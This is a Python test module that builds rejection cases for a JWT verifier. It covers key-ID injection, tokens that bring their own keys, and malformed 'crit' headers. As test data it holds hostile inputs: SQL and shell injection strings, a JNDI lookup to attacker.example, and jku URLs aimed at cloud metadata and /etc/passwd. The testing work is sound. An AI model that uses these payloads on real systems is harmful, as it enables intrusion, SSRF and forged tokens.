"""Attacks through the JOSE header: key IDs, keys that the token brings along, critical extensions."""

import json
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.serialization import Encoding
from cryptography.x509.oid import NameOID

from tests.attacks.case import ACCEPTED, Case, each, header, key, key_set, signed, table
from tests.signing import ISSUER, NOW, SigningKey, b64, good_claims, segment, signing_key

KID_INJECTIONS = [
    *("../../../../../../dev/null", "/dev/null", "file:///dev/null", "..\\..\\win.ini", "key-1/../key-1", "./key-1"),
    *("' OR '1'='1", "key-1' UNION SELECT 'secret' --", "key-1; DROP TABLE keys", '"; return true; //'),
    *("|/usr/bin/id", "$(id)", "`id`", "key-1\nid", "${jndi:ldap://attacker.example/a}", "{{7*7}}", "%s%s%n"),
    *("key-1\u0000", "\u0000key-1", "key-1\u0000.pem", " key-1", "key-1 ", "key-1\t", "KEY-1", "Key-1"),
    *("", "*", "key-?", "key-.", "key-1,key-2", "__proto__", "constructor", "None", "null", "undefined", "0"),
    *(
        "https://attacker.example/jwks.json",
        "//attacker.example",
        "k\u0435y-1",
        "key\u20111",
        "key-1\u200b",
        "x" * 9000,
    ),
]
NOT_A_STRING = {
    "null": None,
    "a number": 1,
    "zero": 0,
    "true": True,
    "an array": ["key-1"],
    "an object": {"kid": "key-1"},
}

ATTACKER = signing_key("ES256", number=666)
"""A key that the issuer has never seen."""


def key_ids() -> Iterator[Case]:
    yield from table(
        ("RFC 8725 section 3.10 (a)", "RFC 7515 section 4.1.4"),
        "unknown_key",
        {f"kid {kid[:40]!r}": signed(None, header(kid=kid)) for kid in KID_INJECTIONS},
    )
    yield from table(
        ("RFC 8725 section 3.10 (a)", "RFC 7515 section 4.1.4"),
        "header_malformed",
        each(
            lambda kid: signed(None, header(kid=kid)), {f"kid is {name}": value for name, value in NOT_A_STRING.items()}
        ),
    )
    two = key_set(key(), signing_key("ES256", kid="key-2", number=2))
    yield from table("RFC 7515 section 4.1.4", ACCEPTED, {"no kid, and one key fits": signed(None, header(kid=...))})
    yield from table(
        "RFC 7515 section 4.1.4", "key_ambiguous", {"no kid, and two keys fit": signed(None, header(kid=...))}, keys=two
    )
    yield from table(
        ("RFC 8725 section 3.8 (a)", "RFC 7515 section 4.1.4"),
        "signature_mismatch",
        {"the kid of the issuer's other key": signed(None, header(kid="key-2"))},
        keys=two,
    )
    yield from table(
        "RFC 7515 section 4.1.4",
        "unknown_key",
        {"the kid of a key for another algorithm": signed(None, header(kid="key-2"))},
        keys=key_set(key(), signing_key("RS256", kid="key-2")),
    )


def certificate(signer: SigningKey) -> str:
    """A self-signed certificate, as `x5c` holds it: base64 with padding."""
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "auth.example.com")])
    made = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(signer.private.public_key())
        .serial_number(1)
        .not_valid_before(datetime.fromtimestamp(NOW - 1000, UTC))
        .not_valid_after(datetime.fromtimestamp(NOW + 1000, UTC))
        .sign(signer.private, hashes.SHA256())
    )
    import base64

    return base64.b64encode(made.public_bytes(Encoding.DER)).decode()


def keys_brought_along() -> Iterator[Case]:
    url = "https://attacker.example/keys"
    brought: dict[str, dict[str, Any]] = {
        "jwk": {"jwk": ATTACKER.jwk},
        "jku": {"jku": url},
        "x5u": {"x5u": url},
        "x5c": {"x5c": [certificate(ATTACKER)]},
        "jku with the issuer's host as its user": {"jku": "https://auth.example.com@attacker.example/keys"},
        "jku below the issuer": {"jku": f"{ISSUER}/redirect?to={url}"},
        "jku to this machine": {"jku": "http://127.0.0.1/keys"},
        "jku to the cloud's metadata": {"jku": "http://169.254.169.254/latest/meta-data/"},
        "jku to a file": {"jku": "file:///etc/passwd"},
        "all of them": {"jwk": ATTACKER.jwk, "jku": url, "x5u": url, "x5c": [certificate(ATTACKER)], "x5t": "AA"},
    }
    for name, members in brought.items():
        yield from table(
            ("RFC 8725 section 3.10 (b)", "RFC 9068 section 4 (k)"),
            "signature_mismatch",
            {
                f"{name}, under the issuer's kid": ATTACKER.token(None, header(**members)),
                f"{name}, without a kid": ATTACKER.token(None, header(kid=..., **members)),
            },
        )
        yield from table(
            ("RFC 8725 section 3.10 (b)", "RFC 9068 section 4 (k)"),
            "unknown_key",
            {f"{name}, under the attacker's kid": ATTACKER.token(None, header(kid="mine", **members))},
        )
    yield from table(
        "RFC 7515 section 4",
        ACCEPTED,
        {
            "jku and x5u in a genuine token, where they are not looked at": signed(None, header(jku=url, x5u=url)),
            "zip in a genuine token, where it means nothing": signed(None, header(zip="DEF")),
            "a header parameter that nobody knows": signed(None, header(nonsense={"a": [1]})),
        },
    )


def critical_extensions() -> Iterator[Case]:
    critical: dict[str, Any] = {
        "b64": {"crit": ["b64"], "b64": False},
        "b64 as it is by default": {"crit": ["b64"], "b64": True},
        "an unknown extension": {"crit": ["https://example.com/ext"], "https://example.com/ext": 1},
        "an extension that is not there": {"crit": ["absent"]},
        "exp": {"crit": ["exp"], "exp": NOW + 1},
        "alg, which must not be listed": {"crit": ["alg"]},
        "itself": {"crit": ["crit"]},
        "nothing": {"crit": []},
        "the empty name": {"crit": [""]},
        "a number": {"crit": [1]},
        "null": {"crit": None},
        "a string": {"crit": "b64"},
        "an object": {"crit": {"b64": True}},
        "false": {"crit": False},
    }
    yield from table(
        "RFC 7515 section 4.1.11",
        "critical_header_unsupported",
        {f"crit lists {name}": signed(None, header(**members)) for name, members in critical.items()},
    )
    unencoded = json.dumps(good_claims(), separators=(",", ":")).replace(".", "\\u002e")
    head = segment(header(b64=False))
    signature = b64(key().signature(f"{head}.{unencoded}".encode()))
    yield from table(
        "RFC 7797 section 6",
        "header_malformed",
        {"claims not encoded, as b64 has it, without crit": f"{head}.{unencoded}.{signature}"},
        faces=(),
    )
    yield from table(
        "RFC 7797 section 6",
        "header_malformed",
        {
            "b64 without crit, and claims encoded all the same": signed(None, header(b64=False)),
            "b64 as it is by default, without crit": signed(None, header(b64=True)),
        },
    )


def cases() -> list[Case]:
    return [*key_ids(), *keys_brought_along(), *critical_extensions()]
